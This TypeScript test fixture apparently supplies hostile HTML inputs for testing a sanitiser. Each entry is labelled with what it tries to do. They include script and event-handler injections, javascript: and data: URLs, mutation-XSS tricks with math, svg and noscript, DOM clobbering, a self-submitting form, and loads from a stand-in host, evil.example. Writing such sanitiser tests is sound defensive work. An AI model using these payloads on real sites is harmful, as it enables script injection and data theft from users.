/** HTML that tries to run, send, load, cover or break out; each with what it tries. `alert(1)` would be seen. */
export const hostile: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<p>hi</p><script>alert(1)</script><script src="https://evil.example/x.js"></script>'],
  [
    'handlers',
    '<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover="alert(1)" style="width:100%">x</div>',
  ],
  [
    'addresses that run',
    '<a href="javascript:alert(1)">a</a><a href="&#106;ava&#x09;script:alert(1)">b</a><a href=" data:text/html,<script>alert(1)</script>">c</a>',
  ],
  [
    'a form that sends itself',
    '<form action="/api/pause" method="post" id="f"><input name="because" value="x"><button autofocus onfocus="this.form.submit()">go</button></form>',
  ],
  [
    'fields and buttons of other forms',
    '<input form="f" formaction="https://evil.example" type="image" src="https://evil.example/i"><textarea><img src=x onerror=alert(1)></textarea>',
  ],
  [
    'frames',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example"></iframe><frameset><frame src="javascript:alert(1)"></frameset>',
  ],
  [
    'objects',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><applet code="X"></applet>',
  ],
  [
    'a refresh and a base',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/" target="_top"><a href="x">l</a>',
  ],
  [
    'style sheets',
    '<link rel="stylesheet" href="https://evil.example/s.css"><style>@import "https://evil.example/t.css"; body{background:url(https://evil.example/b)} @font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  ],
  [
    'styles that fetch or cover',
    '<div style="position:fixed;inset:0;z-index:9;background:url(https://evil.example/p)">x</div><p style="behavior:url(#x);-moz-binding:url(https://evil.example)">y</p><p style="width:expression(alert(1))">z</p>',
  ],
  [
    'pictures from outside',
    '<img src="https://evil.example/1.png"><img srcset="https://evil.example/2.png 2x"><picture><source srcset="https://evil.example/3.png"></picture><table background="https://evil.example/4.png"><tr><td>x</table>',
  ],
  [
    'media',
    '<video src="https://evil.example/v" poster="https://evil.example/w" autoplay></video><audio src="https://evil.example/a" autoplay></audio>',
  ],
  [
    'drawings',
    '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><image href="https://evil.example/5.png"/><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  ],
  ['a drawing with a style in it', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'formulas',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'formulas and a table',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  [
    'an annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['noscript within a block', '<div><noscript></div><p>--><img src=x onerror=alert(1)></noscript>'],
  ['a template', '<template><img src=x onerror=alert(1)><script>alert(1)</script></template>'],
  [
    'comments',
    '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)><!--[if gte IE 4]><script>alert(1)</script><![endif]--><p>after</p>',
  ],
  [
    'raw text elements',
    '<title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  ],
  [
    'CDATA and instructions',
    '<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "y">]>',
  ],
  ['broken tags', '<img src=x onerror=alert(1)//<p>x</p><<script>alert(1)//<</script>'],
  [
    'quotes in attributes',
    '<p title="\'><img src=x onerror=alert(1)>" align=\'"><script>alert(1)</script>\'>x</p><a href=\'https://a.example/"onclick="alert(1)\'>l</a>',
  ],
  [
    'names that hide ours',
    '<a id="location" name="location">x</a><form name="body"><input name="parentNode"></form><img name="getElementById"><p class="cut">fake</p>',
  ],
  [
    'a select',
    '<select><option><img src=x onerror=alert(1)></option></select><select><template><img src=x onerror=alert(1)></template></select>',
  ],
  [
    'nested lists and tables',
    '<table><a href="https://a.example"><tr><img src=x onerror=alert(1)><td><table><caption><script>alert(1)</script></table>',
  ],
  [
    'control characters',
    '<scr\0ipt>alert(1)</scr\0ipt><a href="java\nscript:alert(1)">x</a><img\fsrc=x\fonerror=alert(1)>',
  ],
  [
    'a pinging link',
    '<a href="https://a.example" ping="https://evil.example/ping" target="_top" rel="opener">x</a>',
  ],
  [
    'custom elements and slots',
    '<x-y onclick=alert(1)>x</x-y><slot name=x></slot><dialog open>y</dialog><details open ontoggle=alert(1)><summary>z</summary></details>',
  ],
];
